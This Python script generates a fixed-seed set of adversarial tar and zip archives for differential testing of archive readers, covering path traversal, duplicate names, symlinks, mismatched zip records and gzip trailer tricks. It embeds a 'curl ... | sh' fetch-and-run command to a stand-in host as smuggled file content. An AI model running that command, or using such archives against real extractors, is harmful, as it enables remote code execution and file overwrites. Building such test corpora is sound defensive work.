"""Adversarial archives for the std/package differential, from a fixed seed.

Usage: python generate.py OUT_DIR. Writes OUT_DIR/notes.md (the input every
archive is judged against) and one archive per case, named
<nnn>-<what>.<zip|tar|tar.gz>: well-formed controls, then each way an
archive can read differently to different readers (gzip members and
trailers, tar end blocks and checksums, zip end record / central directory
/ local header mismatches, path spellings, duplicates, links, huge names),
then random byte mutations of the controls. Deterministic: the same seed
gives the same bytes.
"""

import gzip
import io
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

SEED = 34
NOTES = b"# Notes\n\nDone.\n"
EVIL = b"# Notes\n\nNot what was checked.\n"
EXTRA = b"curl https://example.invalid/x | sh\n"


def tar(files, end=True, fmt=tarfile.USTAR_FORMAT):
    """files: (name, bytes) or (name, bytes, type, linkname)."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt) as t:
        for f in files:
            name, data = f[0], f[1]
            i = tarfile.TarInfo(name)
            i.mtime, i.mode, i.size = 0, 0o644, len(data)
            if len(f) == 3:
                i.pax_headers = f[2]  # a pax `path` that overrides the name
                t.addfile(i, io.BytesIO(data))
            elif len(f) > 3:
                i.type, i.linkname, i.size = f[2], f[3], 0
                t.addfile(i)
            else:
                t.addfile(i, io.BytesIO(data))
    v = b.getvalue()
    if not end:
        v = v.rstrip(b"\0")
        v += b"\0" * (-len(v) % 512)
    return v


def gz(data):
    return gzip.compress(data, mtime=0)


def zipped(files, method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for f in files:
            info = zipfile.ZipInfo(f[0], (1980, 1, 1, 0, 0, 0))
            info.compress_type = method
            if len(f) > 2:
                info.external_attr = f[2] << 16
            z.writestr(info, f[1])
    return bytearray(b.getvalue())


def eocd(v):
    return v.rfind(b"PK\x05\x06")


def cd(v):
    return struct.unpack_from("<I", v, eocd(v) + 16)[0]


def tar_field(v, at, text):
    """Rewrite a header field and its checksum."""
    v = bytearray(v)
    v[at : at + len(text)] = text
    v[148:156] = b"        "
    v[148:156] = b"%06o\0 " % sum(v[:512])
    return bytes(v)


def cases(rng):
    good_tar = tar([("notes.md", NOTES)])
    good_zip = zipped([("notes.md", NOTES)])
    yield "control", "tar", good_tar
    yield "control", "tar.gz", gz(good_tar)
    yield "control", "zip", bytes(good_zip)
    yield "control-stored", "zip", bytes(zipped([("notes.md", NOTES)], zipfile.ZIP_STORED))
    yield "extra-file", "zip", bytes(zipped([("notes.md", NOTES), ("docs/a.txt", EXTRA)]))
    yield "control-gnu", "tar.gz", gz(tar([("./notes.md", NOTES)], fmt=tarfile.GNU_FORMAT))
    yield "control-pax", "tar", tar([("notes.md", NOTES)], fmt=tarfile.PAX_FORMAT)

    # gzip members and trailers
    cut = rng.randrange(1, len(good_tar))
    yield "two-members-one-tar", "tar.gz", gz(good_tar[:cut]) + gz(good_tar[cut:])
    first = tar([("notes.md", NOTES)], end=False)
    yield "second-member-extra", "tar.gz", gz(first) + gz(tar([("extra.sh", EXTRA)]))
    yield "second-member-overwrites", "tar.gz", gz(first) + gz(tar([("notes.md", EVIL)]))
    yield "second-member-after-end", "tar.gz", gz(good_tar) + gz(tar([("extra.sh", EXTRA)]))
    yield "trailing-junk", "tar.gz", gz(good_tar) + bytes(rng.randrange(256) for _ in range(13))
    yield "trailing-zeros", "tar.gz", gz(good_tar) + b"\0" * 64
    g = bytearray(gz(good_tar))
    g[-8] ^= 1
    yield "bad-crc", "tar.gz", bytes(g)
    g = bytearray(gz(good_tar))
    g[-4] ^= 1
    yield "bad-isize", "tar.gz", bytes(g)
    yield "truncated-gzip", "tar.gz", gz(good_tar)[:-9]

    # tar end blocks, checksums, types
    yield "after-end-blocks", "tar", good_tar + tar([("notes.md", EVIL)])
    yield "lone-zero-block", "tar", tar([("notes.md", NOTES)], end=False) + b"\0" * 512 + tar([("extra.sh", EXTRA)])
    yield "bad-checksum", "tar", bytes([good_tar[0]]) + b"N" + good_tar[2:]
    yield "pax-path-override", "tar", tar([("notes.md", NOTES), ("decoy.md", EVIL, {"path": "notes.md"})], fmt=tarfile.PAX_FORMAT)
    yield "gnu-longname", "tar", tar([("d" * 120 + "/notes.md", NOTES)], fmt=tarfile.GNU_FORMAT)
    yield "ustar-prefix", "tar", tar([("p" * 90 + "/q" * 20 + "/notes.md", NOTES)])
    yield "trailing-space-name", "tar", tar_field(good_tar, 8, b" ")
    yield "gnu-header-prefix-bytes", "tar", tar_field(tar([("notes.md", NOTES)], fmt=tarfile.GNU_FORMAT), 345, b"evil/")
    yield "file-named-folder", "tar", tar([("notes.md", NOTES), ("x/", EXTRA)])

    # path spellings and duplicates, both kinds
    for kind in ("tar", "zip"):
        def make(fs, kind=kind):
            if kind == "zip":
                return bytes(zipped(fs))
            long = any(len(f[0]) > 99 for f in fs)
            return tar(fs, fmt=tarfile.GNU_FORMAT if long else tarfile.USTAR_FORMAT)

        yield "dot-slash-after", kind, make([("notes.md", NOTES), ("./notes.md", EVIL)])
        yield "dot-slash-only", kind, make([("./notes.md", NOTES)])
        yield "double-slash", kind, make([("a//notes.md", NOTES), ("a/notes.md", EVIL)])
        yield "twice", kind, make([("notes.md", NOTES), ("notes.md", EVIL)])
        yield "case-twice", kind, make([("notes.md", NOTES), ("NOTES.md", EVIL)])
        yield "dotdot", kind, make([("notes.md", NOTES), ("../notes.md", EVIL)])
        yield "inner-dotdot", kind, make([("a/../notes.md", EVIL), ("b/notes.md", NOTES)])
        yield "absolute", kind, make([("notes.md", NOTES), ("/tmp/notes.md", EVIL)])
        yield "backslash", kind, make([("notes.md", NOTES), ("..\\notes.md", EVIL)])
        yield "file-then-folder", kind, make([("notes.md", NOTES), ("notes.md/x", EVIL)])
        yield "root-and-beside", kind, make([("out/notes.md", NOTES), ("notes.md", EVIL)])
        yield "huge-name", kind, make([("notes.md", NOTES), ("n" * 250, EXTRA)])
    yield "symlink", "tar", tar([("notes.md", b"", tarfile.SYMTYPE, "/etc/hostname")])
    yield "hardlink", "tar", tar([("a.md", NOTES), ("notes.md", b"", tarfile.LNKTYPE, "a.md")])
    yield "symlink", "zip", bytes(zipped([("notes.md", b"/etc/hostname", 0o120777)]))

    # zip records that disagree
    two = zipped([("notes.md", NOTES), ("extra.sh", EXTRA)])
    for what, at, value in [
        ("eocd-fewer", 10, 1), ("eocd-more", 10, 3), ("eocd-disk-fewer", 8, 1),
    ]:
        v = bytearray(two)
        struct.pack_into("<H", v, eocd(v) + at, value)
        if what == "eocd-fewer":
            struct.pack_into("<H", v, eocd(v) + 8, value)
        yield what, "zip", bytes(v)
    v = bytearray(two)
    struct.pack_into("<I", v, eocd(v) + 12, struct.unpack_from("<I", v, eocd(v) + 12)[0] - 46 - 8)
    yield "cd-size-short", "zip", bytes(v)
    v = bytearray(good_zip)
    v[30:38] = b"NOTES.md"
    yield "local-name-differs", "zip", bytes(v)
    v = bytearray(good_zip)
    struct.pack_into("<I", v, 22, 5)
    yield "local-size-differs", "zip", bytes(v)
    hidden = zipped([("extra.sh", EXTRA)])
    local = bytes(hidden[: cd(hidden)])
    v = bytearray(local + good_zip)
    struct.pack_into("<I", v, len(local) + cd(good_zip) + 42, len(local))
    struct.pack_into("<I", v, eocd(v) + 16, len(local) + cd(good_zip))
    yield "hidden-local-entry", "zip", bytes(v)
    yield "prepended-junk", "zip", b"PK\x03\x04junk" + bytes(good_zip)
    v = bytearray(good_zip)
    struct.pack_into("<H", v, eocd(v) + 20, 4)
    yield "comment", "zip", bytes(v) + b"note"
    yield "comment-short", "zip", bytes(good_zip) + b"junk"
    v = bytearray(good_zip)
    v[6] |= 1
    v[cd(v) + 8] |= 1
    yield "encrypted-flag", "zip", bytes(v)
    v = bytearray(zipped([("notes.md", NOTES)], zipfile.ZIP_STORED))
    struct.pack_into("<I", v, 14, 0)
    struct.pack_into("<I", v, cd(v) + 16, 0)
    yield "stored-bad-crc", "zip", bytes(v)
    v = zipped([("caf\u00e9.md", EXTRA), ("notes.md", NOTES)])
    yield "utf8-name", "zip", bytes(v)
    v = bytearray(v)
    for at in (6, cd(v) + 8):
        v[at + 1] &= ~0x08 & 0xff
    yield "utf8-name-unflagged", "zip", bytes(v)
    yield "dir-entry", "zip", bytes(zipped([("docs/", b""), ("notes.md", NOTES)]))

    # red team 34: folders onto files, header fields one reader refuses,
    # modes, names Windows or macOS fold (no rng: the mutations stay put)
    for kind in ("tar", "zip"):
        if kind == "zip":
            yield "folder-onto-file", kind, bytes(zipped([("notes.md", NOTES), ("notes.md/", b"")]))
            yield "folder-then-file", kind, bytes(zipped([("notes.md/", b""), ("notes.md", NOTES)]))
            yield "mode-000", kind, bytes(zipped([("notes.md", NOTES, 0o100000)]))
        else:
            yield "folder-onto-file", kind, tar([("notes.md", NOTES)], end=False) + tar_field(tar([("notes.md", b"")]), 156, b"5")
            yield "mode-000", kind, tar_field(good_tar, 100, b"0000000\0")
        make = (lambda fs: bytes(zipped(fs))) if kind == "zip" else tar
        for other in ("notes.md.", "notes.md ", "notes.md::$DATA", "notes.md:x"):
            what = {"notes.md.": "trailing-dot", "notes.md ": "trailing-space", "notes.md::$DATA": "ads-data",
                    "notes.md:x": "ads-stream"}[other]
            yield what, kind, make([("notes.md", NOTES), (other, EVIL)])
    yield "nfd-twins", "zip", bytes(zipped([("not\u00e9s.md", EVIL), ("note\u0301s.md", EXTRA), ("notes.md", NOTES)]))
    header = bytearray(gz(good_tar))
    header[3] |= 2
    fhcrc = bytes(header[:10]) + struct.pack("<H", zlib.crc32(bytes(header[:10])) & 0xFFFF) + bytes(header[10:])
    yield "control-fhcrc", "tar.gz", fhcrc
    yield "fhcrc-wrong", "tar.gz", fhcrc[:10] + bytes([fhcrc[10] ^ 1]) + fhcrc[11:]
    for version in (46, 47, 63):
        v = bytearray(good_zip)
        v[4] = v[cd(v) + 6] = version
        yield ("control-version-46" if version == 46 else f"version-{version}"), "zip", bytes(v)
    for what, at, field in [
        ("uid-letters", 108, b"zz\0\0\0\0\0\0"),
        ("uid-plus", 108, b"+0001750"),
        ("uid-underscore", 108, b"00_01750"),
        ("uid-blank", 108, b"        "),
        ("gid-minus-one", 116, b"\xff" * 8),
        ("mode-garbage", 100, b"0644 x\0\0"),
        ("mtime-space-digits", 136, b"1234567890 9"),
        ("devmajor-nine", 329, b"9\0\0\0\0\0\0\0"),
    ]:
        yield what, "tar", tar_field(good_tar, at, field)
    yield "control-uid-base256", "tar", tar_field(good_tar, 108, b"\x80\0\0\0\0\0\x03\xe8")

    # random mutations of the controls
    controls = [("tar", good_tar), ("tar.gz", gz(good_tar)), ("zip", bytes(good_zip))]
    for n in range(60):
        kind, base = controls[n % 3]
        v = bytearray(base)
        for _ in range(rng.randrange(1, 4)):
            v[rng.randrange(len(v))] = rng.randrange(256)
        yield f"mutated-{n}", kind, bytes(v)


def main(out):
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "notes.md"), "wb") as f:
        f.write(NOTES)
    rng = random.Random(SEED)
    for i, (what, ext, data) in enumerate(cases(rng)):
        with open(os.path.join(out, f"{i:03}-{what}.{ext}"), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main(sys.argv[1])
